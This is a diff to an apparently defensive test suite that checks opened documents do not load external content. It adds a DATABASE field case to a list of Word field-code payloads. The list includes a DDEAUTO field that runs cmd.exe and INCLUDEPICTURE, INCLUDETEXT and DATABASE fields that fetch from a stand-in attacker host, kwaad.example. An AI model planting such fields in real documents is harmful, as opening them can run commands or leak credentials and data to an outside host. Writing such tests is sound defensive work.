@@ -62,6 +62,7 @@ def test_no_other_document_is_taken_in_when_it_is_opened(kind, name):
     [
         ["DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"],
         [" DD", "E ", "Excel &quot;x&quot;"],
+        ["DATABASE \\\\d &quot;//kwaad.example/map/x.mdb&quot;"],
         ["INCLUDEPICTURE &quot;https://kwaad.example/oog.png&quot; \\d"],
         ["INCLUDE", "TEXT &quot;\\\\\\\\kwaad.example\\\\deel\\\\x.docx&quot;"],
         ["INCLUDEPICTURE &quot;http&#58;//kwaad.example/oog.png&quot;"],
